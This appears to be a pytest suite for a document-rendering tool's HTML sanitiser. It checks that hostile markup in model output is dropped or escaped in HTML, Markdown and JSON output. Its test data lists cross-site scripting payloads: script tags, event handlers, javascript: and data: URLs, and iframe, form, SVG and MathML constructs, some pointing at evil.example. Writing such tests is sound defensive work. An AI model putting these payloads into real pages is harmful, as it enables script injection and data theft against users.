"""Hostile model output through `docparse render`: every forbidden construct is absent, the text around it stays."""

from __future__ import annotations

import html as html_lib
import json
import re
from pathlib import Path

import lxml.html
import pytest

from docparse.cli.app import main
from docparse.writers.html_safety import sanitize_body

# Each case: (name, markup the model writes between two paragraphs, regex that must not match the HTML output).
CONSTRUCTS: list[tuple[str, str, str]] = [
    ("script", "<script>alert('pwned')</script>", r"(?i)<script|alert\("),
    ("event-handler", '<p data-bbox="0 40 100 60" onclick="alert(1)" onmouseover="x()">hover</p>', r"(?i)\son\w+="),
    ("img-onerror", '<img src="x" onerror="alert(1)">', r"(?i)onerror|src="),
    ("javascript-url", '<p data-bbox="0 40 100 60"><a href="javascript:alert(1)">click</a></p>', r"(?i)javascript:"),
    ("javascript-url-spaced", '<a href=" JaVaScRiPt:alert(1)">click</a>', r"(?i)javascript"),
    ("data-url", '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a>', r"(?i)data:text"),
    ("data-url-img", '<img src="data:image/svg+xml;base64,PHN2Zz4=">', r"(?i)data:image|src="),
    ("img-remote", '<img src="https://evil.example/t.png" alt="x">', r"(?i)evil\.example|src="),
    ("img-escape", '<img src="../../etc/x_files/p0001-figure1.png">', r"src="),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', r"(?i)<iframe|evil\.example"),
    ("object", '<object data="https://evil.example/x.swf"></object>', r"(?i)<object|evil\.example"),
    ("embed", '<embed src="https://evil.example/x.swf">', r"(?i)<embed|evil\.example"),
    ("form", '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>', r"(?i)<form|<input"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', r"(?i)refresh|evil\.example"),
    ("base", '<base href="https://evil.example/">', r"(?i)<base|evil\.example"),
    ("style-import", "<style>@import url(https://evil.example/x.css);</style>", r"(?i)@import|evil\.example"),
    ("style-url", '<p data-bbox="0 40 100 60" style="background:url(https://evil.example/t.png)">s</p>', r"evil"),
    ("svg", '<svg onload="alert(1)"><script>alert(2)</script></svg>', r"(?i)onload|alert|<script"),
    (
        "svg-foreign",
        '<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject><a href="javascript:x">'
        '<path d="M0 0" fill="url(https://evil.example/#g)"/></a></svg>',
        r"(?i)foreignobject|evil\.example|javascript|url\(",
    ),
    (
        "svg-use",
        '<svg><use href="https://evil.example/s.svg#x"/><image href="https://evil.example/i.png"/>'
        '<animate attributeName="href" to="javascript:alert(1)"/></svg>',
        r"(?i)<use|<image|<animate|evil\.example|javascript",
    ),
    (
        "mathml",
        '<math><mtext><script>alert(1)</script></mtext><maction actiontype="statusline" href="javascript:x">'
        '<mi xlink:href="javascript:alert(2)">x</mi></maction><mglyph src="https://evil.example/g.png"/></math>',
        r"(?i)<script|alert|javascript|evil\.example|<maction|<mglyph",
    ),
]


def answer(hostile: str) -> str:
    return (
        "```html\n<html><body>\n"
        '<p data-bbox="0 0 100 20">BEFORE TEXT</p>\n'
        f"{hostile}\n"
        '<p data-bbox="0 80 100 100">AFTER TEXT</p>\n'
        "</body></html>\n```"
    )


def render(tmp_path: Path, raw: str, fmt: str, capsys: pytest.CaptureFixture[str]) -> str:
    path = tmp_path / "page.html"
    path.write_text(raw, encoding="utf-8")
    with pytest.raises(SystemExit) as exit_info:
        main(["render", str(path), "--image-size", "100x100", "--to", fmt, "-q"])
    out, _ = capsys.readouterr()
    assert exit_info.value.code == 0
    return out


def body_of(html_out: str) -> str:
    return html_out.split("<body>", 1)[1]


@pytest.mark.parametrize(("name", "hostile", "forbidden"), CONSTRUCTS, ids=[c[0] for c in CONSTRUCTS])
def test_html_output_drops_the_construct_and_keeps_the_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, hostile: str, forbidden: str
) -> None:
    out = render(tmp_path, answer(hostile), "html", capsys)
    body = body_of(out)
    assert not re.search(forbidden, body), name
    text = lxml.html.fromstring(out).text_content()
    assert "BEFORE TEXT" in text and "AFTER TEXT" in text


@pytest.mark.parametrize(("name", "hostile", "forbidden"), CONSTRUCTS, ids=[c[0] for c in CONSTRUCTS])
def test_markdown_escapes_stray_html(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, hostile: str, forbidden: str
) -> None:
    out = render(tmp_path, answer(hostile), "md", capsys)
    assert "BEFORE TEXT" in out and "AFTER TEXT" in out
    # No raw tag of the hostile kind survives: any `<` left is escaped or inside the tables docparse writes.
    assert not re.search(r"(?i)<(script|iframe|object|embed|form|meta|base|style|svg|img|a)\b", out), name
    assert "javascript:" not in out.lower() or name.startswith("javascript")
    assert not re.search(r"(?i)\]\((javascript|data):", out)


@pytest.mark.parametrize(("name", "hostile", "forbidden"), CONSTRUCTS, ids=[c[0] for c in CONSTRUCTS])
def test_json_holds_text_never_live_markup(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, hostile: str, forbidden: str
) -> None:
    data = json.loads(render(tmp_path, answer(hostile), "json", capsys))
    texts = [b["text"] for b in data["pages"][0]["blocks"]]
    assert texts[0] == "BEFORE TEXT" and texts[-1] == "AFTER TEXT"
    for block in data["pages"][0]["blocks"]:
        assert not re.search(r"(?i)<(script|iframe|object|embed|form|meta|base|style|svg|img)\b", json.dumps(block))


@pytest.mark.parametrize(("name", "hostile", "forbidden"), CONSTRUCTS, ids=[c[0] for c in CONSTRUCTS])
def test_the_sanitiser_alone_drops_the_construct(name: str, hostile: str, forbidden: str) -> None:
    # Defence in depth: even markup that reached the body unescaped is cut by the allow-list.
    body = f'<main class="document"><p data-bbox="1 2 3 4">BEFORE TEXT</p>{hostile}<p>AFTER TEXT</p></main>'
    clean = sanitize_body(body)
    assert not re.search(forbidden, clean), name
    assert "BEFORE TEXT" in clean and "AFTER TEXT" in clean
    assert 'data-bbox="1 2 3 4"' in clean


def test_the_sanitiser_keeps_what_docparse_writes() -> None:
    body = (
        '<main class="document"><section class="page" id="page-1" data-page="1">'
        '<table data-bbox="1 2 3 4"><tbody><tr><td colspan="2" rowspan="3">c</td></tr></tbody></table>'
        '<p><a href="https://example.org/x">link</a> <span class="math">\\(x\\)</span><br></p>'
        "</section></main>"
    )
    assert sanitize_body(body) == body


@pytest.mark.parametrize(("name", "hostile", "forbidden"), CONSTRUCTS, ids=[c[0] for c in CONSTRUCTS])
def test_markup_written_as_text_stays_text_in_every_format(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, hostile: str, forbidden: str
) -> None:
    # The model writes the construct as text (entity-escaped): the reader gives it back as literal
    # text, and no writer may turn it into live markup.
    from tests.test_writers import assert_inert, md_to_html

    raw = answer(f'<p data-bbox="0 40 100 60">{html_lib.escape(hostile)}</p>')
    out = render(tmp_path, raw, "html", capsys)
    root = lxml.html.fromstring(out)
    assert_inert(root)
    assert hostile in root.text_content()
    md = render(tmp_path, raw, "md", capsys)
    assert_inert(md_to_html(md))
    assert "BEFORE TEXT" in md and "AFTER TEXT" in md
    data = json.loads(render(tmp_path, raw, "json", capsys))
    assert data["pages"][0]["blocks"][1]["text"] == hostile
